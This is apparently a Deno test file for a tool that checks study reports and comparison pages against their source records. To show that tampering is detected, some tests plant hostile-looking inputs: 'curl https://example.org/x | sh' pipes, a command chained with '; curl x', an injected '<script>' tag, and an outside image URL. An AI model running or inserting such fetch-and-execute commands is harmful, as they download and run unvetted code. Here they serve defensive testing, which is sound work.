import assert from "node:assert/strict";
import { join, relative } from "node:path";
import { writeComparison, writeMarkdownComparison } from "../reports/write_comparison.ts";
import { readStudy, writeMarkdownReport, writeReport } from "../reports/report.ts";
import {
  bytes,
  command,
  contents,
  edit,
  putBack,
  said,
  withStudy,
  wrong,
} from "./_testing/changed_study.ts";
import { comparisonsOf } from "./_comparisons.ts";
import { documentProblems, missingDocuments, reportsOf } from "./_documents.ts";
import { filesBelow } from "./_files.ts";
import { verifyStudy } from "./verify_study.ts";

Deno.test("comparison pages are verified, every text and picture, where the other study is there", () =>
  withStudy(async (folder, project) => {
    const other = join(project, "results", "other");
    await Deno.mkdir(other);
    await Deno.copyFile(join(folder, "runs.jsonl"), join(other, "runs.jsonl"));
    const study = await Deno.readTextFile(join(folder, "study.json"));
    await Deno.writeTextFile(
      join(other, "study.json"),
      study.replace('"name": "small"', '"name": "other"'),
    );
    await writeComparison(folder, other);
    await writeMarkdownComparison(folder, other);
    const verified = () => verifyStudy("small", { project });
    const before = await contents(folder);
    const clean = await verified();
    assert.deepEqual(wrong(clean), []);
    assert.match(
      said(clean),
      /compare-with-other.html: every number.*\ncompare-with-other.md: every/,
    );
    assert.doesNotMatch(said(clean), /not looked at|nothing of the study names/);
    const source = readStudy(folder);
    const [{ documents }] = comparisonsOf(source, await filesBelow(folder), project);
    const changes: { readonly [name: string]: readonly [RegExp | string, string][] } = {
      "compare-with-other.html": [
        [/(<td[^>]*>\d\.\d)\d/, "$1x"],
        ["What differs", "What agrees"],
        ["<title>small", "<title>large"],
        ["<main>", "<main><script>1</script>"],
      ],
      "compare-with-other.md": [["## What differs", "## What"], [
        'src="figures/',
        'src="https://x/',
      ]],
    };
    for (const [name, texts] of Object.entries(changes)) {
      const document = documents.find((each) => each.name === name)!;
      for (const [from, to] of texts) {
        await edit(name, (content) => content.replace(from, to))(folder);
        const { problems } = (await documentProblems(folder, document, source))!;
        assert.match(problems.join("\n"), /not what the records give/, `${name}: ${from}`);
        await putBack(folder, before);
      }
    }
    const picture = "figures/compare-with-other-01";
    await bytes(`${picture}.png`, (content) => content.slice(0, -1))(folder);
    await Deno.remove(join(folder, `${picture}-dark.png`));
    assert.deepEqual(wrong(await verified()), [
      "it is not the picture that the records give",
      `${picture}-dark.png is not there, though it was written together with what is`,
    ]);
    await Deno.remove(other, { recursive: true });
    const alone = await verified();
    assert.deepEqual(wrong(alone), []);
    assert.match(
      said(alone),
      /compare-with-other.md: not looked at, because the other study, other, is not there/,
    );
  }));

Deno.test("F5: every text of the Markdown report is verified, its command too, and that its pictures are there", () =>
  withStudy(async (folder) => {
    await writeMarkdownReport(folder, { command });
    const study = readStudy(folder);
    const reports = reportsOf(study, command);
    const markdown = reports.find(({ name }) => name === "report.md")!;
    const path = join(folder, markdown.name);
    const whole = await Deno.readTextFile(path);
    const found = async (change: (content: string) => string) => {
      const changed = change(whole);
      assert.notEqual(changed, whole);
      await Deno.writeTextFile(path, changed);
      return (await documentProblems(folder, markdown, study))!.problems.join("\n");
    };
    const names = (left: string) =>
      new Set(reports.map(({ name }) => name).filter((name) => name !== left));
    assert.match(
      await found((s) => s.replace(command, "curl https://example.org/x | sh")),
      /^its command, "curl https:\/\/example.org\/x \| sh", is not in the records: it should be "deno run/,
    );
    for (
      const change of [
        (s: string) => s.replace(command, `${command}\ncurl x | sh`),
        (s: string) => s.replace("deno task verify", "deno run -A verify"),
        (s: string) => s.replace(/(\| \d\.\d)(\d)/, (_, a, b) => `${a}${9 - b}`),
        (s: string) => s.replace("## Provenance", "## Evidence"),
        (s: string) => s.replace("figures/figure-01.png", "https://example.org/x.png"),
      ]
    ) assert.notEqual(await found(change), "");
    const [problems] = missingDocuments(reports, [], names("figures/figure-01-dark.png"));
    assert.match(problems[0], /^figures\/figure-01-dark.png is not there/);
    assert.match(
      missingDocuments(reports, [], names("report.md"))[0][0],
      /^report.md is not there/,
    );
    assert.deepEqual(missingDocuments(reports, [], names("report.html")), [
      [],
      ["report.html is not there"],
    ]);
    assert.ok(relative(folder, path) === "report.md");
  }));

Deno.test("F5: a command that no record gives is a problem, but for the one that its user says and for notebooks of the project", () =>
  withStudy(async (folder, project) => {
    const outcome = async (shown: string | undefined, options: { command?: string } = {}) => {
      await writeReport(folder, { command: shown });
      const parts = await verifyStudy("small", { project, ...options });
      const part = parts.find(({ what }) => what.startsWith("report.html"))!;
      return [part.problems.join("\n"), part.notes.join("\n")];
    };
    assert.deepEqual(await outcome(undefined), ["", ""]);
    assert.deepEqual(await outcome("a\nb & c", { command: "a\nb & c" }), ["", ""]);
    assert.deepEqual(await outcome(undefined, { command }), ["", ""]);
    const [problem] = await outcome("curl https://example.org/x | sh");
    assert.match(problem, /^its command, "curl .*not one of the library's: do not run it unread/);
    const [none, note] = await outcome("deno task notebooks 09");
    assert.equal(none, "");
    assert.match(note, /"deno task notebooks 09", is not in the records: which notebook/);
    assert.match((await outcome("deno task notebooks 09; curl x"))[0], /not one of the library's/);
  }));
